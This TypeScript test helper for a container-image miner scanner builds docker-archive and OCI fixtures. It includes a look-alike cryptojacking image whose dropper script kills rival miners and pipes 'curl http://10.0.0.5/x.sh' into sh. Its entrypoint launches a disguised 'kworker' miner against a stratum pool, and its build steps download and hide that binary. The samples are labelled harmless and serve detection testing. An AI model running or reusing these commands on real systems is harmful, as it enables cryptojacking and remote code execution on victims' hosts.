// Builds real container-image tarballs and OCI layouts for tests with tar-stream's pack: layers as
// tars (plain, gzip, or zstd through the `zstd` CLI when installed), docker-archive (legacy per-layer
// dirs or docker 25's blobs/), OCI archive and OCI layout directory, documents written after the
// layers as tools do. Also the look-alike image of issue 13: a harmless file carrying XMRig's
// strings added by layer 2 with a dropper script, which layer 3 deletes with a whiteout.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import tar from 'tar-stream';
import { compileAllRules } from '../../src/engine/content-scan.js';
import { fileForm } from '../../src/engine/file-form.js';
import { toContentMatches } from '../../src/engine/scan-tally.js';
import type { ContentScanner } from '../../src/target/image/index.js';

/** A temp dir other tests recognise as a fixture dir (test/helpers/cli.ts isFixtureDirName). */
export function imageTempDir(): Promise<string> {
  return mkdtemp(path.join(os.tmpdir(), 'minehunter-image-'));
}

/** Writes `bytes` to `dir/name` and returns the path. */
export async function writeInput(dir: string, name: string, bytes: Buffer): Promise<string> {
  const file = path.join(dir, name);
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, bytes);
  return file;
}

let compiled: ContentScanner | undefined;

/** The bundled YARA rules as the image reader's scanner, as the collector wires them. */
export function yaraScanner(): ContentScanner {
  if (!compiled) {
    const { scanner } = compileAllRules();
    compiled = {
      scan: (data) => {
        const m = scanner.scanBuffer(data);
        return m.length > 0 ? { matches: toContentMatches(m), form: fileForm(data) } : { matches: [] };
      },
    };
  }
  return compiled;
}

export interface EntrySpec {
  /** As written into the tar, e.g. `usr/local/bin/x`, `./etc/`, `/abs`, `../../evil`. */
  name: string;
  type?: 'file' | 'directory' | 'symlink' | 'link' | 'fifo';
  content?: string | Buffer;
  mode?: number;
  linkname?: string;
  /** Declared size, when a test wants a header that lies (defaults to the content's length). */
  size?: number;
}

/** A tar of `entries` (header order as given), as bytes. */
export async function tarOf(entries: readonly EntrySpec[]): Promise<Buffer> {
  const pack = tar.pack();
  const chunks: Buffer[] = [];
  const done = (async () => {
    for await (const c of pack) chunks.push(Buffer.from(c as Uint8Array));
  })();
  for (const e of entries) {
    const type = e.type ?? 'file';
    const content = type === 'file' ? Buffer.from(e.content ?? '') : undefined;
    const header = {
      name: e.name,
      type,
      mode: e.mode ?? (type === 'directory' ? 0o755 : 0o644),
      mtime: new Date(0),
      ...(e.linkname !== undefined ? { linkname: e.linkname } : {}),
      ...(content ? { size: content.length } : {}),
    };
    await new Promise<void>((resolve, reject) => {
      const cb = (err?: Error | null) => (err ? reject(err) : resolve());
      if (content) pack.entry(header, content, cb);
      else pack.entry(header, cb);
    });
  }
  pack.finalize();
  await done;
  return Buffer.concat(chunks);
}

export const sha256 = (b: Buffer | string): string => createHash('sha256').update(b).digest('hex');

export function gzip(b: Buffer): Buffer {
  return gzipSync(b);
}

/** zstd bytes through the `zstd` CLI, or undefined when it is not installed. */
export function zstd(b: Buffer): Buffer | undefined {
  try {
    return execFileSync('zstd', ['-q', '-c', '-3'], { input: b, maxBuffer: 1 << 30 });
  } catch {
    return undefined;
  }
}

export interface HistorySpec {
  created_by: string;
  empty_layer?: boolean;
}

export interface ImageSpec {
  names: string[];
  /** Uncompressed layer tars, bottom first. */
  layers: Buffer[];
  /** How each layer is stored (default plain tar). */
  compress?: (tarBytes: Buffer, index: number) => Buffer;
  config: Record<string, unknown>;
  history: HistorySpec[];
}

export interface BuiltImage {
  spec: ImageSpec;
  config: Buffer;
  configDigest: string;
  /** The stored blobs, bottom first. */
  blobs: Buffer[];
  blobDigests: string[];
  diffIds: string[];
}

/** The config document and the stored layer blobs of an image. */
export function buildImage(spec: ImageSpec): BuiltImage {
  const blobs = spec.layers.map((l, i) => (spec.compress ? spec.compress(l, i) : l));
  const diffIds = spec.layers.map((l) => `sha256:${sha256(l)}`);
  const config = Buffer.from(
    JSON.stringify({
      architecture: 'amd64',
      os: 'linux',
      config: spec.config,
      rootfs: { type: 'layers', diff_ids: diffIds },
      history: spec.history.map((h) => ({ created: '2026-01-01T00:00:00Z', ...h })),
    }),
  );
  return {
    spec,
    config,
    configDigest: `sha256:${sha256(config)}`,
    blobs,
    blobDigests: blobs.map((b) => `sha256:${sha256(b)}`),
    diffIds,
  };
}

export interface OuterEntry {
  name: string;
  content?: Buffer;
  type?: 'file' | 'directory' | 'symlink';
  linkname?: string;
}

/** The outer tar from its entries (documents last, as tools write them, unless the caller orders otherwise). */
export function outerTar(entries: readonly OuterEntry[]): Promise<Buffer> {
  return tarOf(
    entries.map((e) => ({
      name: e.name,
      type: e.type ?? 'file',
      ...(e.content ? { content: e.content } : {}),
      ...(e.linkname ? { linkname: e.linkname } : {}),
    })),
  );
}

export interface DockerArchiveOptions {
  /** `legacy`: `<id>/layer.tar` and `<hex>.json` (docker ≤ 24, podman); `blobs`: docker 25's blobs/sha256. */
  style?: 'legacy' | 'blobs';
  /** Put manifest.json first instead of last. */
  manifestFirst?: boolean;
  /** Extra or replacement entries, appended. */
  extra?: OuterEntry[];
  /** Replaces manifest.json's bytes. */
  manifest?: Buffer;
}

/** The entries of a docker-archive holding `images` (layers shared by digest are written once). */
export function dockerArchiveEntries(
  images: readonly BuiltImage[],
  opts: DockerArchiveOptions = {},
): OuterEntry[] {
  const style = opts.style ?? 'legacy';
  const entries: OuterEntry[] = [];
  const written = new Set<string>();
  const keyOf = (digest: string, kind: 'layer' | 'config') =>
    style === 'blobs'
      ? `blobs/sha256/${digest.slice(7)}`
      : kind === 'layer'
        ? `${digest.slice(7)}/layer.tar`
        : `${digest.slice(7)}.json`;
  const manifest = images.map((img) => {
    img.blobs.forEach((b, i) => {
      const key = keyOf(img.blobDigests[i] as string, 'layer');
      if (!written.has(key)) entries.push({ name: key, content: b });
      written.add(key);
    });
    const configKey = keyOf(img.configDigest, 'config');
    if (!written.has(configKey)) entries.push({ name: configKey, content: img.config });
    written.add(configKey);
    return {
      Config: configKey,
      RepoTags: img.spec.names,
      Layers: img.blobDigests.map((d) => keyOf(d, 'layer')),
    };
  });
  const doc = { name: 'manifest.json', content: opts.manifest ?? Buffer.from(JSON.stringify(manifest)) };
  if (opts.manifestFirst) entries.unshift(doc);
  else entries.push(doc);
  return [...entries, ...(opts.extra ?? [])];
}

export function dockerArchive(
  images: readonly BuiltImage[],
  opts: DockerArchiveOptions = {},
): Promise<Buffer> {
  return outerTar(dockerArchiveEntries(images, opts));
}

const OCI_MANIFEST = 'application/vnd.oci.image.manifest.v1+json';
const OCI_INDEX = 'application/vnd.oci.image.index.v1+json';

/** The blobs and documents of an OCI layout holding `images`, as archive entries. */
export function ociEntries(images: readonly BuiltImage[], opts: { nested?: boolean } = {}): OuterEntry[] {
  const blobs = new Map<string, Buffer>();
  const put = (b: Buffer): string => {
    const d = `sha256:${sha256(b)}`;
    blobs.set(d, b);
    return d;
  };
  const descriptors = images.map((img) => {
    img.blobs.forEach((b) => put(b));
    put(img.config);
    const manifest = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: OCI_MANIFEST,
        config: {
          mediaType: 'application/vnd.oci.image.config.v1+json',
          digest: img.configDigest,
          size: img.config.length,
        },
        layers: img.blobs.map((b, i) => ({
          mediaType: `application/vnd.oci.image.layer.v1.tar${img.spec.compress ? '+gzip' : ''}`,
          digest: img.blobDigests[i],
          size: b.length,
        })),
      }),
    );
    return {
      mediaType: OCI_MANIFEST,
      digest: put(manifest),
      size: manifest.length,
      annotations: img.spec.names[0] ? { 'org.opencontainers.image.ref.name': img.spec.names[0] } : {},
    };
  });
  let top = descriptors;
  if (opts.nested) {
    const nested = Buffer.from(
      JSON.stringify({ schemaVersion: 2, mediaType: OCI_INDEX, manifests: descriptors }),
    );
    top = [{ mediaType: OCI_INDEX, digest: put(nested), size: nested.length, annotations: {} }];
  }
  const index = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: OCI_INDEX, manifests: top }));
  return [
    ...[...blobs].map(([d, b]) => ({ name: `blobs/sha256/${d.slice(7)}`, content: b })),
    { name: 'oci-layout', content: Buffer.from('{"imageLayoutVersion":"1.0.0"}') },
    { name: 'index.json', content: index },
  ];
}

export function ociArchive(images: readonly BuiltImage[], opts: { nested?: boolean } = {}): Promise<Buffer> {
  return outerTar(ociEntries(images, opts));
}

/** Writes an OCI layout directory at `dir`. */
export async function writeOciLayout(
  dir: string,
  images: readonly BuiltImage[],
  opts: { nested?: boolean } = {},
): Promise<void> {
  for (const e of ociEntries(images, opts)) {
    const file = path.join(dir, e.name);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, e.content ?? Buffer.alloc(0));
  }
}

// ---- The look-alike image of issue 13 ----

/** Bytes that look like an ELF program and carry XMRig's name, donation host and options. */
export function lookalikeMinerBytes(): Buffer {
  const header = Buffer.alloc(64);
  header.writeUInt32LE(0x464c457f, 0);
  const strings = [
    'XMRig/6.21.0',
    'donate.v2.xmrig.com',
    'Usage: xmrig [OPTIONS]',
    '--donate-level',
    '--randomx-1gb-pages',
    '--cpu-max-threads-hint',
    'stratum+tcp://',
    'minehunter test look-alike: harmless, runs nothing',
  ].join('\0');
  return Buffer.concat([header, Buffer.from(strings), Buffer.alloc(64)]);
}

/** A dropper-like script: kills competing miners, downloads and runs, hides in a dot-dir. */
export const DROPPER_SCRIPT = `#!/bin/sh
# minehunter test look-alike dropper: never run
pkill -9 kdevtmpfsi; pkill -9 kinsing; pkill -9 xmrig; pkill -9 minerd; killall sysupdate
curl -fsSL http://10.0.0.5/x.sh | sh
`;

export const ENTRYPOINT_SCRIPT = `#!/bin/sh
exec /usr/local/bin/kworker --donate-level 1 -o stratum+tcp://10.0.0.5:3333 -u "$WALLET" "$@"
`;

export const LOOKALIKE_STEPS = {
  base: 'ADD rootfs.tar /',
  miner:
    '/bin/sh -c curl -fsSL http://10.0.0.5/k -o /usr/local/bin/kworker && chmod +x /usr/local/bin/kworker',
  env: 'ENV WALLET=4AMinehunterTestWa11et',
  cleanup: '/bin/sh -c rm /tmp/.x/dropper.sh',
} as const;

/** The three uncompressed layers: base files, the miner with its dropper, the dropper's whiteout. */
export async function lookalikeLayers(): Promise<Buffer[]> {
  const fakeElf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(60)]);
  const base = await tarOf([
    { name: './', type: 'directory' },
    { name: './bin/', type: 'directory' },
    { name: './bin/busybox', content: fakeElf, mode: 0o755 },
    { name: './bin/sh', type: 'link', linkname: './bin/busybox' },
    { name: './etc/', type: 'directory' },
    { name: './etc/os-release', content: 'ID=minehunter-test\n' },
    { name: './tmp/', type: 'directory', mode: 0o1777 },
    { name: './usr/local/bin/', type: 'directory' },
  ]);
  const miner = await tarOf([
    { name: 'usr/local/bin/kworker', content: lookalikeMinerBytes(), mode: 0o755 },
    { name: 'tmp/.x/', type: 'directory' },
    { name: 'tmp/.x/dropper.sh', content: DROPPER_SCRIPT, mode: 0o755 },
    { name: 'docker-entrypoint.sh', content: ENTRYPOINT_SCRIPT, mode: 0o755 },
  ]);
  const cleanup = await tarOf([{ name: 'tmp/.x/.wh.dropper.sh', content: '' }]);
  return [base, miner, cleanup];
}

/** The look-alike image's spec: three layers, four build steps (one adds no layer). */
export async function lookalikeImageSpec(names = ['localhost/lookalike:1']): Promise<ImageSpec> {
  return {
    names,
    layers: await lookalikeLayers(),
    config: {
      Entrypoint: ['/docker-entrypoint.sh'],
      Cmd: ['--threads', '2'],
      Env: [
        'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
        'WALLET=4AMinehunterTestWa11et',
      ],
      ExposedPorts: { '3333/tcp': {} },
      User: '',
    },
    history: [
      { created_by: LOOKALIKE_STEPS.base },
      { created_by: LOOKALIKE_STEPS.miner },
      { created_by: LOOKALIKE_STEPS.env, empty_layer: true },
      { created_by: LOOKALIKE_STEPS.cleanup },
    ],
  };
}

/** A small clean image: one layer with a shell-like program and a config file. */
export async function cleanImageSpec(names = ['localhost/clean:1']): Promise<ImageSpec> {
  const layer = await tarOf([
    { name: 'bin/', type: 'directory' },
    {
      name: 'bin/app',
      content: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(60)]),
      mode: 0o755,
    },
    { name: 'etc/app.conf', content: 'listen = 8080\n' },
  ]);
  return {
    names,
    layers: [layer],
    config: { Cmd: ['/bin/app'], Env: ['PATH=/bin'] },
    history: [{ created_by: 'COPY app /bin/app' }],
  };
}
